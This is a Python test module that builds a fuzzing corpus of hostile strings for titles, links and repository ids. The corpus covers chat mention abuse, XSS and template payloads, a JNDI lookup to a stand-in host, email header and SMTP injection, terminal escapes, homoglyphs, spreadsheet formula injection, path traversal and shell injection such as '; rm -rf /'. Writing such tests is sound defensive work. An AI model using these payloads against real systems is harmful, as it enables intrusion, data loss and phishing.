"""Hostile strings, made here: what a stranger may put into a title, a link or a repository id."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

_CALLS = (
    "<!channel>", "<!here>", "<!everyone>", "<@U024BE7LH>", "<#C024BE7LR>", "<!subteam^S1|team>",
    "<https://evil.example|about.fb.com>", "<mailto:a@b.example|mail>", "<!date^0^{date}|x>",
    "@everyone", "@HERE", "<@42>", "<@!42>", "<@&42>", "<#42>", "<t:0:R>", "</ban:42>",
    "<id:home>", "<a:wave:42>", "<:wave:42>", "[about.fb.com](https://evil.example)",
    "[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "||spoiler||", "# big", "-# small",
    "> quote", ">>> all", "```\ncode\n```", "`code`", "**bold**", "__u__", "~~s~~", "1. one",
    "- item", "\\", "\\\\[x](https://evil.example)", "*[x](https://evil.example)*",
)  # fmt: skip
_MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "</title><script>x</script>", "\" onmouseover=\"x", "' onfocus='x", "<a href='javascript:x'>",
    "{{ 7 * 7 }}", "{% raw %}", "${jndi:ldap://evil.example/a}", "%s%n%x", "{0.__class__}",
    "&lt;b&gt;", "&#60;script&#62;", "&amp;amp;", "<!--", "-->", "]]>", "<![CDATA[x]]>",
    "<style>*{display:none}</style>", "<base href=//evil.example>", "<meta http-equiv=refresh>",
)  # fmt: skip
_HEADERS = (
    "x\r\nBcc: all@evil.example", "x\nX-Injected: yes", "x\r\n\r\n<b>body</b>",
    "x\rBcc: a@b.example",
    "=?utf-8?q?a=0AX-Injected:_yes?=", "=?utf-8?b?WAotSW5qZWN0ZWQ6IHllcw==?=", "=?x?=", "=?=?=?",
    "x\x85Bcc: a@b.example", "x\u2028Bcc: a@b.example", "x\u2029Bcc: a", "x\x0bBcc: a", "x\x1cB: c",
    "\r\n.\r\nMAIL FROM:<a@evil.example>\r\n", ".", "..", "From me", "a@b, c@d", "\"q\" <a@b>",
)  # fmt: skip
_TERMINAL = (
    "\x1b[2J\x1b[H", "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\about.fb.com\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07", "\x9b31m", "\x9d0;t\x9c", "\x1bP1$r\x1b\\", "\x07\x08\x7f",
    "\x00nul\x00",
    "\x1b", "[bold red]x[/]", "[link=https://evil.example]x[/link]", "a\rb", "x\ty\vz\f",
)  # fmt: skip
_LETTERS = (
    "мета-llama/Llama-5", "meta-Ilama/Llama", "mеta-llama", "ｍｅｔａ", "\u202eexe.tpircs\u202c",
    "\u2066x\u2069", "\u200bz\u200dw\u200c", "\ufeffbom", "\u00adsoft", "e\u0301" * 40,
    "Z\u0337" * 90,
    "\ud800", "\udfff\ud800", "\ufffe\uffff", "\U000e0041\U000e007f", "🏳️‍🌈👩‍👩‍👧‍👦", "𝕸𝖊𝖙𝖆",
    "牛油果", "アボカド",
    "羊駝", "एवोकाडो", "אבוקדו", "أفوكادو", "ﷺ" * 50, "İıſK", "ß" * 100, "\u3000wide\u3000",
)  # fmt: skip
_CELLS = (
    "=1+1", "=HYPERLINK(\"https://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
    "\t=1", "\r=1", " =1", "＝1", "\u200b=1", "a,b\";c\nd", "'quoted'", "0x1F", "1e400", "NaN",
)  # fmt: skip
_FILES = (
    "../../etc/passwd", "..\\..\\x", "/etc/shadow", "C:\\x", "CON", "nul.txt", ".ssh", "a\x00.png",
    "-rf", "--help", "~root", "$(reboot)", "`reboot`", "; rm -rf /", "|cat", "x" * 300, " ", "",
)  # fmt: skip
_ADDRESSES = (
    "javascript:alert(1)", "data:text/html,<script>x</script>", "file:///etc/passwd",
    "//evil.example",
    "https://about.fb.com@evil.example/", "https://user:secret@evil.example/x", "http://[::1]/x",
    "http://127.0.0.1\\@evil.example/", "https://evil.example/)](https://x.example)", "https://",
    "https://evil.example/|about.fb.com", "https://evil.example/>x<", "https://evil.example/\"x",
    "https://evil.example/a b", "https://evil.example/\r\nX: y", "https://x.example:99999/", "ftp://x",
    "https://xn--mta-8cd.example/", "https://mеta.example/", "https://" + "a" * 300 + ".example/",
    "https://x.example/" + "%F0%9F" * 400, "HTTPS://EVIL.EXAMPLE/Path?q=<x>&r=(y)#[z]",
    "https://x.example/‮gpj.exe", "https://..example/", "https://x.example/`*_~|",
)  # fmt: skip


def strings() -> list[str]:
    """Some six hundred: the seeds, each long, each inside words, and pairs glued together."""
    return list(dict.fromkeys(_all()))


def addresses() -> list[str]:
    """Strings that somebody may give as a link."""
    return [*_ADDRESSES, *_CALLS, *_HEADERS]


def _all() -> Iterator[str]:
    seeds = (
        *_CALLS, *_MARKUP, *_HEADERS, *_TERMINAL, *_LETTERS, *_CELLS, *_FILES, *_ADDRESSES,
    )  # fmt: skip
    for seed in seeds:
        yield from (seed, f"Llama 5 {seed} is out", seed * 400)
    for one, two in product(_CALLS[:6] + _HEADERS[:3], _MARKUP[:4] + _TERMINAL[:4] + _LETTERS[:3]):
        yield one + two
